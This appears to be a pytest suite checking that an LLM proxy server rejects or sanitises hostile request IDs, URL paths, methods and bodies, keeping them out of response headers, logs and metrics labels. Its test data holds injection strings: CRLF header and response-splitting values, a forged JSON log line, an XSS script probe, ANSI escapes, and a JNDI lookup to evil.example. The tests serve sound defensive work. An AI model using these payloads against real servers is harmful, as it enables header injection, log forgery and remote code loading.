"""What a client writes is never taken for what the server says: in a header, in a page, in the log."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

import pytest
from support.waiting import until
from support.wire import HEADERS, assert_refused, request

QUESTION = b'{"messages": [{"role": "user", "content": "What is 6 times 7?"}]}'
FORGED = '{"level": "INFO", "logger": "optillm_cerebras_cepo.access", "message": "request", "request_id": "forged"}'
OURS = re.compile("[0-9a-f]{32}")

STRANGE_IDS: dict[str, str | bytes] = {
    "spaces": "a b",
    "quotes": '"}, "level": "CRITICAL", "x": "',
    "a line": FORGED,
    "HTML": "<script>alert(1)</script>",
    "a comma": "a,b",
    "a semicolon": "a;b",
    "percent": "a%0d%0aset-cookie:b",
    "backslashes": "a\\r\\nset-cookie: b",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a colour": b"\x1b[31m"[1:],
    "Latin-1": b"\xe4\xf6\xfc",
    "UTF-8": "ä\u2028b\u202e".encode(),
    "a line end in C1": b"a\x85b",
    "empty": "",
    "129 characters": "a" * 129,
    "10 kB": "a" * 10_000,
}
BROKEN_IDS = {
    "CR LF": b"a\r\n\r\nHTTP/1.1 200 OK",
    "LF": b"a\nset-cookie: b",
    "CR": b"a\rset-cookie: b",
    "null": b"a\0b",
    "escape": b"a\x1b[31mb",
    "a folded line": b"a\r\n set-cookie: b",
}


@pytest.mark.parametrize("how", STRANGE_IDS)
def test_a_strange_request_id_is_replaced(plain: Any, how: str) -> None:
    """In the reply and in the log: by one of ours, of characters that need no quoting anywhere."""
    reply = plain.ask(QUESTION, x_request_id=STRANGE_IDS[how])
    assert reply.status == 200
    assert reply.headers.keys() <= HEADERS
    assert OURS.fullmatch(reply.headers["x-request-id"])
    until(lambda: plain.logged(reply))


@pytest.mark.parametrize("how", BROKEN_IDS)
def test_one_that_ends_its_header_is_no_http(plain: Any, how: str) -> None:
    """Nothing of it comes back."""
    reply = plain.ask(QUESTION, x_request_id=BROKEN_IDS[how])
    if how == "CR LF":  # then the headers end there, and the rest is the next request
        assert_refused(reply, 400, "invalid_request")
    else:
        assert_refused(reply, 400, "invalid_request")
        assert OURS.fullmatch(reply.headers["x-request-id"])
    assert plain.trap.sent == []


def test_two_request_ids_are_none(plain: Any) -> None:
    """Joined by a comma, as HTTP has it."""
    data = b"GET /health HTTP/1.1\r\nhost: a\r\nx-request-id: a\r\nx-request-id: b\r\n\r\n"
    assert OURS.fullmatch(plain.send(data).headers["x-request-id"])


@pytest.mark.parametrize(
    "path",
    [
        "/" + quote("\r\nset-cookie: b"),
        "/v1/models/" + quote("\r\nset-cookie: b\r\n\r\n<script>"),
        "/v1/models/" + quote(f"\n{FORGED}\n"),
        f"/{FORGED}".replace(" ", "%20"),
        "/%1b%5b31m",
        "/%c2%85%e2%80%a8",
        "/%22%7d%5c",
    ],
    ids=range(7),
)
def test_an_address_is_no_line_of_its_own(plain: Any, path: str) -> None:
    """Neither in the reply's headers nor in the log."""
    reply = plain.send(request("GET", path))
    assert reply.status == 404
    assert reply.headers.keys() <= HEADERS
    for word in ("script", "cookie", "forged"):
        assert word not in f"{reply.headers} {reply.body.decode()}"
    until(lambda: plain.logged(reply))
    assert not [record for record in plain.records() if record.get("request_id") == "forged"]


def test_a_method_is_no_line_of_its_own(plain: Any) -> None:
    """It may be any word, of any length."""
    reply = plain.send(request("X" * 5000 + "-!#$%&'*+.^_`|~", "/health"))
    assert_refused(reply, 405, "wrong_method")
    until(lambda: plain.logged(reply))
    record = plain.logged(reply)
    assert record["method"] == "(unprintable)"


def test_a_body_is_not_in_the_log(plain: Any) -> None:
    """Nor what is wrong with it, nor names, nor what the API says of it."""
    for body in (
        b'{"messages": [{"role": "planted", "content": "planted"}], "planted": "planted", "model": "planted"}',
        b'{"messages": [{"role": "user", "content": "planted"}], "optillm_approach": "planted"}',
        b'{"messages": [{"role": "user", "content": "planted"}], "cepo_cerebras_planted": "planted"}',
        b'{"planted',
    ):
        last = plain.ask(body, user_agent="planted", referer="planted", x_planted="planted")
        assert last.status == 400
    until(lambda: plain.logged(last))
    assert "planted" not in plain.server.log


def test_a_name_in_the_body_is_no_label(plain: Any) -> None:
    """Else each would be a figure of its own, for ever: only our own paths, approaches and efforts are kept."""
    for number in range(20):
        plain.send(request("GET", f"/planted-{number}"))
        plain.send(request(f"PLANTED{number}", "/health"))
        plain.ask(b'{"messages": [], "optillm_approach": "planted-%d", "cepo_cerebras_effort": "planted"}' % number)
        plain.ask(b'{"messages": [], "model": "planted-%d&b"}' % number)
    page = plain.send(request("GET", "/metrics")).body.decode()
    assert "planted" not in page.lower()
    assert 'path="other"' in page
